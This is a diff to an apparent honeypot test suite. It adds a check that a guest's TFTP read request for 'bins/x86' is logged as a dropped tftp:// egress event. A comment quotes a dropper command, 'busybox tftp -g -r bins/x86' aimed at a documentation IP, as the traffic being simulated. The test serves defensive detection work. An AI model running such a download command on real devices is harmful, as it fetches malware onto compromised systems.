@@ -137,12 +137,19 @@ async def test_guests_dns_and_tcp_to_anywhere_reach_the_node(
     # UDP elsewhere is not answered, but it is an event.
     stray = await in_guest(guest, socket.SOCK_DGRAM)
     await loop.sock_sendto(stray, b"hello", (FAR, 9999))
+    # A TFTP read request (busybox tftp -g -r bins/x86 192.0.2.80): its URL is reported.
+    await loop.sock_sendto(stray, b"\0\1bins/x86\0octet\0blksize\0512\0", (FAR, 69))
     stray.close()
 
-    await until(lambda: len(fleet.of("honeyfleet.egress.connect")) == 2)
-    http, dropped = sorted(
-        fleet.of("honeyfleet.egress.connect"), key=lambda e: e["kind"] == "dropped"
+    await until(lambda: len(fleet.of("honeyfleet.egress.connect")) == 3)
+    by_port = {e["dst_port"]: e for e in fleet.of("honeyfleet.egress.connect")}
+    http, dropped, tftp = by_port[8081], by_port[9999], by_port[69]
+    assert (tftp["url"], tftp["method"], tftp["kind"]) == (
+        f"tftp://{FAR}/bins/x86",
+        "read",
+        "dropped",
     )
+    assert dropped["data"] == "hello"
     assert (http["dst_ip"], http["dst_port"], http["url"]) == (
         FAR,
         8081,
